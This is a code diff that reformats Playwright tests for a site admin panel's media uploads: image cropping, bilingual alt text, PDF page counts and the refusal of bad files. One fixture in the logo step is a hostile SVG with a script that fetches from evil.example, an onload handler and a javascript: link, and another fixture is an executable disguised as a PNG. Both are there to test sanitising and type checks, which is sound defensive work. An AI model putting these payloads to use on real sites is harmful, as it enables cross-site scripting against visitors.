@@ -32,25 +32,43 @@ test('pictures and a document, from the file to the visitor', async ({ page, bro
   expectProblem(/Executing inline event handler violates/);
 
   await test.step('a photograph is cut to its place and described', async () => {
-    await fileOf(page, 'aboutStory').setInputFiles({ name: 'office.jpg', mimeType: 'image/jpeg', buffer: await photograph(page, 1200, 900) });
+    await fileOf(page, 'aboutStory').setInputFiles({
+      name: 'office.jpg',
+      mimeType: 'image/jpeg',
+      buffer: await photograph(page, 1200, 900),
+    });
     const dialog = page.getByRole('dialog', { name: /^Crop: / });
     await dialog.getByRole('slider', { name: t('panel-media:crop.zoom') }).press('End');
     await dialog.getByRole('button', { name: t('panel-media:crop.use') }).click();
     await expect(toastWith(page, 'Image Updated!')).toBeVisible();
-    await field(page, 'imageAlts.aboutStory').getByRole('textbox', { name: /English/ }).fill('Our office at the sea');
-    await field(page, 'imageAlts.aboutStory').getByRole('textbox', { name: /Arabic/ }).fill('مكتبنا على البحر');
+    await field(page, 'imageAlts.aboutStory')
+      .getByRole('textbox', { name: /English/ })
+      .fill('Our office at the sea');
+    await field(page, 'imageAlts.aboutStory')
+      .getByRole('textbox', { name: /Arabic/ })
+      .fill('مكتبنا على البحر');
   });
 
   await test.step('logos: a picture, and a drawing with a script in it', async () => {
-    await fileOf(page, 'clientLogo1').setInputFiles({ name: 'client.png', mimeType: 'image/png', buffer: await pngWithExif(page, 400, 200) });
+    await fileOf(page, 'clientLogo1').setInputFiles({
+      name: 'client.png',
+      mimeType: 'image/png',
+      buffer: await pngWithExif(page, 400, 200),
+    });
     await expect(field(page, 'images.clientLogo1').getByRole('img')).toBeVisible();
-    const drawing = svg('<script>fetch("https://evil.example")</script><circle r="9" onload="alert(1)" fill="teal"/><a href="javascript:alert(2)"><text>x</text></a>');
+    const drawing = svg(
+      '<script>fetch("https://evil.example")</script><circle r="9" onload="alert(1)" fill="teal"/><a href="javascript:alert(2)"><text>x</text></a>',
+    );
     await fileOf(page, 'clientLogo2').setInputFiles({ name: 'client.svg', mimeType: 'image/svg+xml', buffer: drawing });
     await expect(field(page, 'images.clientLogo2').getByRole('img')).toBeVisible();
   });
 
   await test.step('a document tells its pages', async () => {
-    await fileOf(page, 'companyProfilePdfUrl').setInputFiles({ name: 'profile.pdf', mimeType: 'application/pdf', buffer: Buffer.from(pdf()) });
+    await fileOf(page, 'companyProfilePdfUrl').setInputFiles({
+      name: 'profile.pdf',
+      mimeType: 'application/pdf',
+      buffer: Buffer.from(pdf()),
+    });
     await expect(toastWith(page, 'PDF Updated!')).toBeVisible();
     await expect(field(page, 'images.companyProfilePdfUrl')).toContainText('2 pages');
   });
@@ -81,7 +99,9 @@ test('pictures and a document, from the file to the visitor', async ({ page, bro
     const picture = site.getByRole('img', { name: 'Our office at the sea' });
     await picture.scrollIntoViewIfNeeded();
     // Four times closer to a photograph that stands upright, 900 pixels wide.
-    await expect.poll(() => picture.evaluate((image: HTMLImageElement) => (image.naturalWidth / image.naturalHeight).toFixed(2))).toBe('1.33');
+    await expect
+      .poll(() => picture.evaluate((image: HTMLImageElement) => (image.naturalWidth / image.naturalHeight).toFixed(2)))
+      .toBe('1.33');
     expect(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(225);
     await site.goto('/ar/about');
     await expect(site.getByRole('img', { name: 'مكتبنا على البحر' })).toBeAttached();
@@ -92,7 +112,11 @@ test('pictures and a document, from the file to the visitor', async ({ page, bro
   });
 });
 
-test('what does not fit is refused in the words of the catalogue; an upload is called off in the middle, or its connection is lost and it is sent again', async ({ page, t, expectProblem }, info) => {
+test('what does not fit is refused in the words of the catalogue; an upload is called off in the middle, or its connection is lost and it is sent again', async ({
+  page,
+  t,
+  expectProblem,
+}, info) => {
   test.slow();
   expectProblem(/ERR_CONNECTION_RESET/);
   const large = info.outputPath('large.png');
@@ -101,7 +125,11 @@ test('what does not fit is refused in the words of the catalogue; an upload is c
   const cut = (await photograph(page, 80, 60)).subarray(0, 400);
 
   for (const [slot, file, message] of [
-    ['aboutHero', { name: 'holiday.png', mimeType: 'image/png', buffer: Buffer.from('MZ this is a program') }, t('panel-media:refusals.type.image')],
+    [
+      'aboutHero',
+      { name: 'holiday.png', mimeType: 'image/png', buffer: Buffer.from('MZ this is a program') },
+      t('panel-media:refusals.type.image'),
+    ],
     ['aboutStory', large, t('panel-media:refusals.size')],
     ['ourWorkHeroImage', { name: 'broken.jpg', mimeType: 'image/jpeg', buffer: cut }, t('panel-media:refusals.unreadable')],
     ['companyProfilePdfUrl', { name: 'profile.pdf', mimeType: 'application/pdf', buffer: svg('') }, t('panel-media:refusals.type.pdf')],
@@ -112,7 +140,9 @@ test('what does not fit is refused in the words of the catalogue; an upload is c
       await expect(field(page, `images.${slot}`).getByText(message)).toBeVisible();
     });
   }
-  await field(page, 'images.partnerLogo6').getByRole('button', { name: /^Delete: / }).click();
+  await field(page, 'images.partnerLogo6')
+    .getByRole('button', { name: /^Delete: / })
+    .click();
   await expect(toastWith(page, 'No file to delete')).toBeVisible();
   await expect(page.getByRole('button', { name: 'Save All' })).toBeDisabled();
 
